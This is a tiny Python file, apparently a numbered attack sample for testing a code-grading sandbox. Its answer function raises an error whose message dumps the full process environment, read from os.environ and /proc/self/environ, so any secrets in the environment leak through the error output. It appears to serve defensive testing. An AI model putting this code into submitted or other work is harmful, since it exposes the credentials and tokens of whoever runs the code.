"""Prints its own environment into its answer (attack 9)."""
import os
def answer(*args, **kwargs):
    raise RuntimeError(repr(dict(os.environ)) + open("/proc/self/environ").read())
